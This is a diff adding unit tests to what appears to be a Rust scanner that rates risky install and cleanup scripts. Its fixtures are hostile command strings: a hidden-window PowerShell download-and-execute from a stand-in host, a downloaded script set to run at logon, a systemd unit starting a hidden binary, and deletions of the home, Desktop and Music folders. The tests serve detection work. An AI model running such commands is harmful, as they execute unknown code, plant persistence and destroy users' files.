@@ -328,3 +328,50 @@ fn persisted_hook_that_uploads_local_data() {
     let local = "git config core.hooksPath .githooks\ncurl -s https://api.github.com/repos/o/r > meta.json\n";
     assert_eq!(worst(&[("setup.sh", local)], "persistence.payload"), None);
 }
+
+#[test]
+fn remote_code_in_a_hidden_window() {
+    let rule = "supply_chain.remote-code";
+    // An unknown host's script run in a hidden window: the Run-dialog one-liner (issue 14).
+    let hidden =
+        "powershell -nop -WindowStyle Hidden -c \"irm https://repair.tool.example/a.ps1 | iex\"\n";
+    assert_eq!(worst(&[("fix.ps1", hidden)], rule), Some(Critical));
+    // The same run in a visible window stays a review.
+    let shown = "powershell -nop -c \"irm https://repair.tool.example/a.ps1 | iex\"\n";
+    assert_eq!(worst(&[("fix.ps1", shown)], rule), Some(High));
+}
+
+#[test]
+fn persistence_of_a_downloaded_or_hidden_program() {
+    let rule = "persistence.payload";
+    // A logon task that starts the file this script fetched from an unknown host.
+    let task = "Invoke-WebRequest \"https://agent.tool.example/u.ps1\" -OutFile \"$dir\\updater.ps1\"\nschtasks /create /sc onlogon /tn Updater /tr \"powershell -f $dir\\updater.ps1\"\n";
+    assert_eq!(worst(&[("setup.ps1", task)], rule), Some(Critical));
+    // A unit written line by line: the ExecStart line (not the first write) runs a hidden path.
+    let unit = "cat > ~/.config/systemd/user/sync.service <<'EOF'\n[Service]\nExecStart=%h/.cache/.syncd/syncd\n[Install]\nWantedBy=default.target\nEOF\nsystemctl --user enable --now sync.service\n";
+    assert_eq!(worst(&[("install.sh", unit)], rule), Some(Critical));
+    // A project's own virtual environment is not a hidden place, and a vendor's download is not
+    // a payload.
+    let venv = "cat > ~/.config/systemd/user/bot.service <<'EOF'\n[Service]\nExecStart=%h/apps/bot/.venv/bin/python -m bot\nEOF\nsystemctl --user enable --now bot.service\n";
+    assert_eq!(worst(&[("install.sh", venv)], rule), None);
+    let vendor = "curl -fsSL https://github.com/acme/cli/releases/download/v1/cli -o ~/bin/cli\n(crontab -l; echo \"0 * * * * ~/bin/cli sync\") | crontab -\n";
+    assert_eq!(worst(&[("install.sh", vendor)], rule), None);
+}
+
+#[test]
+fn delete_through_a_python_loop_value() {
+    let rule = "destructive.resolved-target";
+    let py = "import os, shutil\nfor t in (\"~/Downloads/tmp\", \"~\"):\n    shutil.rmtree(os.path.expanduser(t), ignore_errors=True)\n";
+    assert_eq!(worst(&[("clean.py", py)], rule), Some(Critical));
+    let safe = "import os, shutil\nfor t in (\"build\", \"dist\"):\n    shutil.rmtree(t, ignore_errors=True)\n";
+    assert_eq!(worst(&[("clean.py", safe)], rule), None);
+}
+
+#[test]
+fn powershell_pipeline_continued_after_a_pipe() {
+    let rule = "destructive.rm-root-or-home";
+    let ps = "Get-ChildItem \"$env:USERPROFILE\\Desktop\", \"$env:USERPROFILE\\Music\" |\n    Remove-Item -Recurse -Force\n";
+    assert_eq!(worst(&[("clean.ps1", ps)], rule), Some(Critical));
+    let temp = "Get-ChildItem \"$env:TEMP\\*\" |\n    Remove-Item -Recurse -Force\n";
+    assert_eq!(worst(&[("clean.ps1", temp)], rule), None);
+}
